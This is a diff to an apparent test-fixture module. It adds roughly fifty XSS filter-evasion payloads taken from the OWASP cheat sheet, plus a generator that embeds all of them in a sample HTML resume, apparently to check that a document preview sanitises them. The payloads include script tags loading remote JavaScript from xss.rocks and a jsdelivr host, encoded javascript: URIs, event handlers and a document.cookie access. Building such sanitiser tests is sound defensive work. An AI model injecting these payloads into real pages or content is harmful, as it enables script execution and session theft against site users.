@@ -59,3 +59,74 @@ export async function zipBombDocx(expandedBytes: number, declaredSize = expanded
     { name: 'word/document.xml', data: await deflatedZeros(expandedBytes), declaredSize: Math.min(declaredSize, 0xffffffff) },
   ]);
 }
+
+/**
+ * Inputs from the OWASP XSS Filter Evasion Cheat Sheet: each would run script, load a resource
+ * or restyle the page if a preview let it through.
+ */
+export const XSS_FILTER_EVASIONS = [
+  '<script>alert("XSS")</script>',
+  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
+  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
+  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
+  '<IMG SRC="javascript:alert(\'XSS\');">',
+  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
+  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
+  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
+  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
+  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
+  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
+  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
+  '<img src=x onerror=alert(1)>',
+  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
+  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
+  '<IMG SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">',
+  '<a href="javascript:alert(\'XSS\')">link</a>',
+  '<a href="jav&#x0A;ascript:alert(\'XSS\');">link</a>',
+  '<a href="&#1;javascript:alert(\'XSS\')">link</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">link</a>',
+  '<a href="//xss.rocks/xss.js">link</a>',
+  '<BODY ONLOAD=alert(\'XSS\')>',
+  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
+  '<svg/onload=alert(\'XSS\')>',
+  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
+  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
+  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
+  '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
+  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
+  '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
+  '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
+  '<style>body { width: expression(alert("XSS")); }</style>',
+  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
+  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
+  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
+  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
+  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
+  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
+  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
+  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
+  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TR><TD BACKGROUND="javascript:alert(\'XSS\')">cell</TD></TR></TABLE>',
+  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
+  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
+  '<BASE HREF="javascript:alert(\'XSS\');//">',
+  '<form action="javascript:alert(1)"><button>go</button></form>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<!--[if gte IE 4]><SCRIPT>alert(\'XSS\');</SCRIPT><![endif]-->',
+  '<XSS STYLE="behavior: url(xss.htc);">',
+  '<template><script>alert(1)</script></template>',
+];
+
+/** An HTML resume with real content around every evasion above. */
+export function xssResumeHtml(): Uint8Array {
+  return new TextEncoder().encode(
+    [
+      '<!DOCTYPE html><html><head><meta charset="utf-8"><title>简历</title></head><body>',
+      '<h1>个人简历</h1>',
+      '<table><tr><td>姓名</td><td>王芳</td></tr><tr><td>邮箱</td><td><a href="mailto:wangfang@example.cn">wangfang@example.cn</a></td></tr></table>',
+      ...XSS_FILTER_EVASIONS.map((vector) => `<p>${vector}</p>`),
+      '<p>求职意向：<strong>物流工程师</strong></p>',
+      '</body></html>',
+    ].join('\n'),
+  );
+}
